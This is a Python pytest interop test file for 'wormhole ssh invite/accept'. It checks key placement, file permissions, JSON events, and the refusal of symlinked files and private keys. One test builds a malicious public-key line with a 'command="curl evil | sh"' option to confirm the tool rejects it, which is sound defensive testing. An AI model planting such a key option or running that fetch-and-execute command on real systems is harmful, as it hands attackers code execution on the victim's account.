"""``wormhole ssh invite`` / ``ssh accept`` between hilltop and official 0.24, both ways.

Each side gets a throw-away HOME, so the key lands in a temporary ``~/.ssh/authorized_keys``
and the test can check its content and modes; nothing touches the real home directory.
"""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from conftest import Peers

interop = pytest.mark.interop

ACCEPT_LINE = re.compile(r"wormhole ssh accept (\S+)")


def home_with_key(tmp_path: Path, name: str, comment: str) -> tuple[Path, str]:
    home = tmp_path / name
    (home / ".ssh").mkdir(parents=True, mode=0o700)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment,
                    "-f", str(home / ".ssh" / "id_ed25519")], check=True)
    return home, (home / ".ssh" / "id_ed25519.pub").read_text().strip()


def check_added(home: Path, key: str) -> None:
    ssh = home / ".ssh"
    keys = ssh / "authorized_keys"
    assert keys.read_text() == key + "\n"
    assert stat.S_IMODE(ssh.stat().st_mode) == 0o700
    assert stat.S_IMODE(keys.stat().st_mode) == 0o600


@interop
@pytest.mark.parametrize(("inviter", "accepter"), [("hilltop", "official"),
                                                   ("official", "hilltop"),
                                                   ("hilltop", "hilltop")])
def test_ssh_invite_and_accept(peers: Peers, tmp_path: Path, inviter: str,
                               accepter: str) -> None:
    invite_home = tmp_path / "inviter"
    invite_home.mkdir()  # no ~/.ssh yet: hilltop creates it
    if inviter == "official":  # official says it will create ~/.ssh, then exits 0 without
        (invite_home / ".ssh").mkdir(mode=0o700)  # ("Can't read"): give it one
    accept_home, key = home_with_key(tmp_path, "accepter", "alice@laptop")
    start = {"hilltop": peers.hilltop, "official": peers.official}
    inviting = start[inviter]("ssh", "invite", env={"HOME": str(invite_home)})
    code = inviting.wait_for_line(ACCEPT_LINE).group(1)
    accepting = start[accepter]("ssh", "accept", code, "--yes", env={"HOME": str(accept_home)})
    accepted, invited = accepting.finish(), inviting.finish()
    assert accepted.returncode == 0, accepted.describe()
    assert invited.returncode == 0, invited.describe()
    assert "Sending public key type='ssh-ed25519' keyid='alice@laptop'" in accepted.stdout
    assert "Key sent." in accepted.stdout
    assert re.search(r"Appended key type='ssh-ed25519' id='alice@laptop' to '.*authorized_keys'",
                     invited.stdout), invited.describe()
    if inviter == "hilltop":
        check_added(invite_home, key)
    else:  # official's open(path, "a", 0o600) passes 0o600 as the buffer size: umask modes
        assert (invite_home / ".ssh" / "authorized_keys").read_text() == key + "\n"


@interop
def test_hilltop_refuses_a_key_line_with_options_from_official(peers: Peers,
                                                               tmp_path: Path) -> None:
    """Official sends whatever the .pub file holds; a line with options must not be added."""
    invite_home = tmp_path / "inviter"
    invite_home.mkdir()
    accept_home, key = home_with_key(tmp_path, "accepter", "mallory")
    evil = f'command="curl evil | sh" {key}\n'
    (accept_home / ".ssh" / "id_ed25519.pub").write_text(evil)
    inviting = peers.hilltop("ssh", "invite", env={"HOME": str(invite_home)})
    code = inviting.wait_for_line(ACCEPT_LINE).group(1)
    accepting = peers.official("ssh", "accept", code, "--yes", env={"HOME": str(accept_home)})
    invited = inviting.finish()
    accepting.finish()
    assert invited.returncode == 5, invited.describe()  # declined
    assert "options such as command=" in invited.stderr
    assert not (invite_home / ".ssh" / "authorized_keys").exists()


@interop
def test_ssh_json_events_and_existing_file_kept(peers: Peers, tmp_path: Path) -> None:
    invite_home = tmp_path / "inviter"
    (invite_home / ".ssh").mkdir(parents=True, mode=0o700)
    keys = invite_home / ".ssh" / "authorized_keys"
    keys.write_text("ssh-rsa AAAAB3Nza old-key")  # no final newline
    accept_home, key = home_with_key(tmp_path, "accepter", "bob")
    inviting = peers.hilltop("--json", "ssh", "invite", env={"HOME": str(invite_home)})
    code = inviting.wait_for_line(r'"event": "code"')
    code_text = json.loads(code.string)["code"]
    accepting = peers.hilltop("ssh", "accept", code_text, "--json", "--yes",
                              env={"HOME": str(accept_home)})
    accepted, invited = accepting.finish(), inviting.finish()
    assert accepted.returncode == 0 and invited.returncode == 0, invited.describe()
    assert keys.read_text() == f"ssh-rsa AAAAB3Nza old-key\n{key}\n"
    from test_json_events import validated

    added = [e for e in validated(invited.stdout) if e["event"] == "ssh_key_added"]
    assert added and added[0]["appended"] is True and added[0]["key_id"] == "bob"
    sent = [e["event"] for e in validated(accepted.stdout)]
    assert sent[0] == "ssh_key" and sent[-1] == "done"


@interop
def test_a_symlinked_authorized_keys_is_refused_before_a_code(peers: Peers,
                                                              tmp_path: Path) -> None:
    home = tmp_path / "inviter"
    (home / ".ssh").mkdir(parents=True, mode=0o700)
    target = tmp_path / "elsewhere"
    target.write_text("")
    os.symlink(target, home / ".ssh" / "authorized_keys")
    result = peers.hilltop("ssh", "invite", env={"HOME": str(home)}).finish()
    assert result.returncode == 1, result.describe()
    assert "symbolic link" in result.stderr
    assert "wormhole ssh accept" not in result.stdout  # no code was handed out
    assert target.read_text() == ""


def test_accept_asks_first_and_no_sends_nothing(peers: Peers, tmp_path: Path) -> None:
    """Declining the question exits 5 before any connection (the server here is dead)."""
    home, _ = home_with_key(tmp_path, "accepter", "carol")
    result = peers.hilltop("ssh", "accept", "5-guitarist-revenge", stdin="n\n",
                           relay_url="ws://127.0.0.1:9/v1", transit_helper="tcp:127.0.0.1:9",
                           env={"HOME": str(home)}).finish()
    assert result.returncode == 5, result.describe()
    assert "Really send public key 'carol' ?" in result.stderr
    assert "Sending public key type='ssh-ed25519' keyid='carol'" in result.stdout


def test_accept_refuses_to_send_a_private_key(peers: Peers, tmp_path: Path) -> None:
    home, _ = home_with_key(tmp_path, "accepter", "dave")
    private = home / ".ssh" / "id_ed25519"
    result = peers.hilltop("ssh", "accept", "5-guitarist-revenge", "--yes", "-F", str(private),
                           relay_url="ws://127.0.0.1:9/v1", transit_helper="tcp:127.0.0.1:9",
                           env={"HOME": str(home)}).finish()
    assert result.returncode == 1, result.describe()
    assert "is not an SSH public key" in result.stderr
    assert "Traceback" not in result.stderr
